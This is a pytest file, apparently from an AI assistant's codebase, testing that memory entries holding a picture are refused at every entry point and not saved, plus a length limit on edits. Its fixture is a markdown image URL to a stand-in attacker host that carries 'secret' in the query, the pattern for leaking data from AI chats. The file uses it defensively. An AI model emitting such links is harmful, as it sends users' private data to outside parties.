"""What an entry may not carry is refused at every door, with a sentence, and nothing of it is saved."""

import pytest

from assistant.errors import InputError, NotKept
from assistant.types import TurnState
from memory_store.store import Store
from tests.support.beside import drained
from tests.support.memory.loop import ME, RIGHT, WRONG, Loop, active
from tests.support.memory.services import memory_of, services_on
from ui.page.conversation.conversation import ConversationHandlers

pytestmark = pytest.mark.promise("content-rules")

PICTURE = "I meant this one: ![it](https://attacker.test/p.png?q=secret)"
REFUSED = NotKept("holds.picture").sentence


def test_a_clarification_is_refused_before_anything_is_noted(store: Store) -> None:
    loop = Loop(store, WRONG)
    turn = loop.ask("what is akin to quick ?")
    with pytest.raises(NotKept, match="please take it out and save again"):
        list(loop.assistant.clarify(turn.id, PICTURE, ME))
    assert active(store) == []
    assert [turn.corrected_by for turn in loop.assistant.turns("c", ME)] == [None]


def test_the_page_says_why_and_the_words_can_be_changed_and_sent_again(store: Store) -> None:
    loop = Loop(store, WRONG, RIGHT)
    turn = loop.ask("what is akin to quick ?")
    chat = ConversationHandlers(services_on(store, loop.assistant))
    sent = {"run": "r", "conversation": "c", "turn": turn.id, "text": PICTURE}
    assert drained(chat.clarify(sent, ME, "page"))[-1]["refused"] == REFUSED
    assert not drained(chat.clarify(sent | {"text": "a synonym"}, ME, "page"))[-1]["refused"]
    assert active(store) == ["a synonym"]


def test_a_correction_in_chat_ends_with_the_sentence_and_can_be_said_again(store: Store) -> None:
    loop = Loop(store, WRONG, "<correction>this one</correction>", "<correction>a synonym</correction>", RIGHT)
    loop.ask("what is akin to quick ?")
    refused = loop.ask(f"no, {PICTURE}")
    assert (refused.state, refused.error) == (TurnState.FAILED, REFUSED)
    assert active(store) == []


def test_an_edit_and_a_wording_are_refused(store: Store) -> None:
    loop = Loop(store, WRONG, RIGHT)
    loop.clarify(loop.ask("what is akin to quick ?"), "a synonym")
    (entry,) = store.memory.entries(ME)
    page = memory_of(services_on(store))
    assert page.edit({"entry": entry.id, "text": PICTURE}, ME) == {"refused": REFUSED}
    assert page.change_key({"entry": entry.id, "old": "", "new": PICTURE}, ME) == {"refused": REFUSED}
    assert store.memory.entry(entry.id, ME) == entry
    with pytest.raises(InputError, match="2,001 characters long"):
        store.memory.edit(entry.id, "x" * 2001, ME)
